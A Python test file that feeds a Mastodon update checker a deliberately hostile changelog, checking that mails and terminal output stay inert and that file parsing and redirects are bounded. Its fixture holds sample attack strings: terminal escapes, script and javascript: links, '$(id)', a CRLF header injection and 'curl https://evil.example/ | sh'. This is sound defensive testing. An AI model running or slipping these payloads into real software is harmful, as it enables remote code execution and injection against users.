"""A hostile source of release details: its text never acts, and its files cost bounded time and memory."""

import time
import tracemalloc
import unicodedata
from collections.abc import Iterator

import pytest

from end_to_end.world import World
from mastodon_update_check.domain.release_tree import FILES, extract
from simulators.http_server import HttpServer, Reply
from simulators.release_source import ReleaseSource

EVIL, ID = "https://evil.example/", "GHSA-7jvv-fhmg-wpfw"
HOSTILE = f"""## [4.5.20] - 2026-10-29

### Security

- \x1b[2J\x1b]0;owned\x07 <script>alert(1)</script> \u202e{EVIL} [{ID}]({EVIL}advisories/{ID})
- <img src={EVIL}> [click](javascript:alert(1)) `$(id)`; curl {EVIL} | sh
- Update the container image\r\nSubject: another one
- {"x" * 5_000}

## [4.5.19] - 2026-10-01
"""


@pytest.fixture
def source(world: World) -> Iterator[ReleaseSource]:
    """Have a hostile changelog of an urgent release."""
    world.update_server.publish("4.5.20", urgent=True)
    with ReleaseSource() as source:
        source.publish("4.5.19")
        source.publish("4.5.20", {"README.md": "### Requirements\n- **Ruby** 9999.9999.9999.\x1b[31m9\n"}, HOSTILE)
        world.set(UPDATE_CHECK_RELEASE_DETAILS=source.template, UPDATE_CHECK_INSTALL_KIND="source")
        yield source


def _unsafe(text: str) -> set[str]:
    """Return the control and formatting characters in a text, except newlines."""
    return {char for char in text if unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}} - {"\n", "\r"}


def test_no_text_acts_in_a_mail(world: World, source: ReleaseSource) -> None:
    """Nothing is a link, an element or a header, and every line is short."""
    world.check()
    [mail], [text] = world.mails, world.texts
    assert "fixes 4 security issues" in text
    assert _unsafe(text) == set()
    assert "<script" not in text.partition("<!DOCTYPE")[2]
    assert f'href="{EVIL}' not in text
    assert "href=javascript" not in text
    assert mail.message.get_all("Subject") == ["URGENT [social.example] install Mastodon 4.5.20 (you run 4.5.19)"]
    assert max(map(len, text.partition("<!DOCTYPE")[0].splitlines())) < 100
    assert source.asked


@pytest.mark.parametrize("command", [["route"], ["explain", "4.5.20"], ["status"], ["doctor"]])
def test_no_text_acts_in_a_terminal(world: World, source: ReleaseSource, command: list[str]) -> None:
    """For the output of each command."""
    world.check()
    finished = world.run(*command)
    assert _unsafe(finished.out + finished.err) == set()
    assert "$(id)" not in "".join(line for line in finished.out.splitlines() if line.startswith("    "))
    assert source.asked


@pytest.mark.parametrize("path", FILES)
@pytest.mark.parametrize(
    "piece", [b"[", b"{", b"- **Ruby** ", b"(GHSA-", b"\x00", b"\n", b"## [1.2.3]\n", b"\xff", b"9"]
)
def test_no_file_costs_much(path: str, piece: bytes) -> None:
    """A file as large as is allowed, of any content, takes little time and memory."""
    size = (2 if path == "CHANGELOG.md" else 1) * 1024 * 1024
    content = b"## [4.5.20]\n### Security\n### Requirements\n- " + piece * (size // len(piece) - 10)
    began = time.process_time()
    fact = extract(path, content)
    assert time.process_time() - began < 3
    assert len(str(fact)) < 500_000


def test_memory_is_bounded() -> None:
    """Facts of the largest changelog are small."""
    content = b"## [4.5.20]\n### Security\n" + b"- Fix (CVE-2026-0001) " * 90_000
    tracemalloc.start()
    fact = extract("CHANGELOG.md", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 32 * 1024 * 1024
    assert len(str(fact)) < 100_000


def test_redirects_end(world: World, source: ReleaseSource) -> None:
    """A loop costs four requests for a file, not for each."""
    with HttpServer(lambda _: Reply.redirect("/again")) as loop:
        world.set(UPDATE_CHECK_RELEASE_DETAILS=loop.url("/{version}/"))
        assert world.check().result == (0, 3, 3, 0, 0)
        assert len(loop.requests) <= 8
    assert source.asked == []
